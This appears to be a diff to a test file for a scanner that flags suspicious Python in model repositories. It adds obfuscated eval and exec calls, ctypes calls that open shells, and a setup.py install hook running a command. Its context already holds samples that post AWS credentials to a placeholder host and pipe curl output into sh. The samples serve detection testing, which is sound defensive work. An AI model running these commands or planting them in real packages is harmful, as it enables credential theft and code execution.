@@ -98,12 +98,27 @@ def worst(name: str, data: str | bytes, beside: dict[str, bytes] | None = None) 
         "import os, requests\ndef f():\n    requests.post('https://x.invalid', data=open(os.path.expanduser('~/.aws/credentials')).read())",
         "import os\ndef f():\n    os.system('curl http://192.0.2.1/x | sh')",
         "# -*- coding: utf-7 -*-\nx = 1",
+        "globals()['__builtins__']['ev' + 'al'](x)",
+        "__builtins__['ex' + 'ec'](x)",
+        "vars(__builtins__)['eval'](x)",
+        "import ctypes\nctypes.CDLL(None).system(b'id')",
+        "from ctypes import cdll\ncdll.LoadLibrary('libc.so.6').execve(b'/bin/sh', None, None)",
+        "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.popen(b'id', b'r')",
+        "import ctypes\nctypes.cdll['msvcrt'].system(b'id')",
+        "import ctypes\nctypes.windll.shell32.ShellExecuteW(0, 0, 'cmd', 0, 0, 0)",
     ],
 )
 def test_python_that_does_what_a_model_does_not_is_high(code: str) -> None:
     rule, found = worst("modeling_x.py", code)
     assert rule == "MG0350"
     assert found >= Severity.HIGH
+
+
+def test_the_commands_of_a_package_run_when_it_is_installed() -> None:
+    command = "class I(install):\n    def run(self):\n        os.system('id')\n"
+    code = f"import os\nfrom setuptools import setup\n{command}setup(cmdclass={{'install': I}})"
+    assert worst("setup.py", code) == ("MG0350", Severity.HIGH)
+    assert worst("tools.py", code) == ("MG0350", Severity.LOW)
 
 
 @pytest.mark.parametrize(
@@ -126,6 +141,7 @@ def test_python_that_does_what_a_model_does_not_is_high(code: str) -> None:
         "import subprocess\ndef f(kind, run=subprocess.run):\n    return {'a': run, 'b': subprocess.check_output}[kind](['ls'])",
         "import ctypes, torch\ndef kernel():\n    return ctypes.CDLL('x')",
         "def __getattr__(name):\n    import importlib\n    return importlib.import_module('.' + name, __name__)",
+        "import ctypes\nlib = ctypes.CDLL('kernels.so')\nlib.forward.restype = None\ndef f(x):\n    return getattr(lib, 'f' + x)(1)",
     ],
 )
 def test_honest_python_is_low(code: str) -> None:
